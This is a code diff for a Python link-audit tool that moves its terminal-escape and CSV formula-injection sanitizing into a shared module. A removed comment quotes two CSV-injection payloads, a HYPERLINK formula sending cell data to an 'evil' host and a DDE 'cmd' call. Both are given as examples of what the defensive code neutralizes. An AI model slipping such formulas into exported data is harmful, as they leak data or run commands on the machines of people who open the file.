@@ -26,6 +26,7 @@ from typing import IO, Any
 from urllib.parse import urlsplit
 
 from resolver.audit.model import NOT_CHECKED, VERDICTS, AuditRecord, AuditSummary, AuditVerdict, Outcome
+from resolver.safetext import spreadsheet_text, visible_escapes
 
 #: Rows of the rot-by-domain table: a CI comment must stay readable (and under GitHub's 65,536
 #: characters), the HTML page can afford more.
@@ -52,33 +53,13 @@ def _clean(text: object) -> str:
     return " ".join(_BIDI.sub("", _CONTROL.sub("", "" if text is None else str(text))).split())
 
 
-#: What must not reach a terminal as it is: C0 and C1 controls and DEL (ESC starts the
-#: sequences that move the cursor, clear the screen or set the window title; rich passes ESC
-#: through) and the bidi controls above. All can sit in an anchor text, a URL or a file name.
-_UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
-
-
 def inert(text: object, width: int | None = None) -> str:
-    """`text` for a terminal: each unsafe character written as its escape (`\\x1b`, `\\u202e`),
-    visible and inert, so a file name with an escape sequence is still told apart; `width`
-    cuts it (an anchor text can be a paragraph)."""
+    """`text` for a terminal, unsafe characters as visible escapes (`safetext.visible_escapes`);
+    `width` cuts it (an anchor text can be a paragraph)."""
     value = "" if text is None else str(text)
     if width is not None and len(value) > width:
         value = value[: width - 1].rstrip() + "…"
-    return _UNSAFE.sub(_escape, value)
-
-
-def _escape(match: re.Match[str]) -> str:
-    code = ord(match.group())
-    if 0xDC80 <= code <= 0xDCFF:  # a byte of a file name that is not UTF-8 (surrogateescape)
-        return f"\\x{code - 0xDC00:02x}"
-    return match.group().encode("unicode_escape").decode("ascii")
-
-
-#: What a spreadsheet takes for the start of a formula (OWASP "CSV Injection"): an anchor text
-#: `=HYPERLINK("http://evil/?"&A1)` or `+cmd|' /C calc'!A0` would run when the csv is opened in
-#: Excel, LibreOffice or Google Sheets. The same policy as `resolver scan`'s csv.
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+    return visible_escapes(value)
 
 
 def csv_cell(value: object) -> object:
@@ -89,9 +70,7 @@ def csv_cell(value: object) -> object:
         return ""
     if isinstance(value, bool):
         return "true" if value else "false"
-    if isinstance(value, str) and len(value) > 1 and value.startswith(_FORMULA_START):
-        return "'" + value
-    return value
+    return spreadsheet_text(value) if isinstance(value, str) else value
 
 
 def _web_url(url: str | None) -> str | None:
